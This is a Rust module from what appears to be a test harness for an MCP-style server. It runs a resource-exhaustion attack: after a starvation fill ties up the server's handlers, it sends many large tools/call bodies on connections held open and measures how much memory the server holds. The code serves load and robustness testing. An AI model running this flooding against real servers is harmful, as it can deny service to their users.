//! Attack 5, big bodies: with the server's handlers already taken by the starvation attack's
//! hung-up sampling calls, one more session sends many large `tools/call` bodies and keeps their
//! connections open; the driver reads how much memory the server holds for them.

use std::collections::BTreeMap;
use std::time::Duration;

use serde_json::json;

use crate::client::{self, round1, Session};
use crate::server::Server;
use crate::starve::{self, counts, error_kind};
use crate::{Args, Outcome};

/// Run the big-bodies attack against `server`.
pub(crate) async fn run(server: &Server, args: &Args) -> Result<Outcome, String> {
    let (attackers, _, fill_heads) = starve::fill(server, args).await;
    // The bodies come from the next attacker address in turn after the fill's sessions.
    let from = args.attacker(args.starve_sessions);
    let session = Session::open(client::fresh_client(from), &server.url, true)
        .await
        .map_err(|e| format!("the big-bodies session: {e}"))?;
    let before = server.memory_kib();
    let text = "a".repeat(args.big_body_kib * 1024);
    let settle = Duration::from_millis(args.big_body_settle_ms);
    // Each body on its own connection, held open (response unread) past the reading.
    let sends = (0..args.big_bodies).map(|i| {
        let req = client::post(
            &session.client,
            &session.url,
            Some(&session.id),
            client::call_frame(
                i as u64 + 1,
                &args.sample_tool,
                &args.sample_arguments(text.clone()),
            ),
        );
        async move { tokio::time::timeout(settle * 2, req.send()).await }
    });
    let reading = async {
        tokio::time::sleep(settle).await;
        server.memory_kib()
    };
    let (answers, during) = tokio::join!(futures::future::join_all(sends), reading);
    let mut heads = BTreeMap::<String, u64>::new();
    for a in &answers {
        let head = match a {
            Ok(Ok(resp)) => format!("HTTP {}", resp.status().as_u16()),
            Ok(Err(e)) => format!("error: {}", error_kind(e)),
            Err(_) => format!("no head within {} ms", (settle * 2).as_millis()),
        };
        *heads.entry(head).or_default() += 1;
    }
    drop(answers);
    drop(attackers);
    let held_kib = match (before, during) {
        (Some((b, _)), Some((d, _))) => Some(d as i64 - b as i64),
        _ => None,
    };
    let sent_kib = (args.big_bodies * args.big_body_kib) as f64;
    let summary = format!(
        "after the starvation fill ({}), {} bodies of {} KiB held open: RSS {} KiB -> {} KiB ({} MiB held for {:.1} MiB sent; heads: {})",
        counts(&fill_heads),
        args.big_bodies,
        args.big_body_kib,
        before.map_or("?".into(), |m| m.0.to_string()),
        during.map_or("?".into(), |m| m.0.to_string()),
        held_kib.map_or("?".into(), |k| format!("{:.1}", k as f64 / 1024.0)),
        sent_kib / 1024.0,
        counts(&heads),
    );
    Ok(Outcome {
        params: json!({
            "fill_sessions": args.starve_sessions,
            "fill_calls_per_session": args.starve_calls,
            "bodies": args.big_bodies,
            "body_kib": args.big_body_kib,
            "settle_ms": args.big_body_settle_ms,
            "attack_from": args.attack_from,
        }),
        result: json!({
            "fill_heads": fill_heads,
            "heads": heads,
            "rss_before_kib": before.map(|m| m.0),
            "rss_during_kib": during.map(|m| m.0),
            "held_kib": held_kib,
            "held_per_sent": held_kib.map(|k| round1(k as f64 / sent_kib)),
        }),
        summary,
    })
}
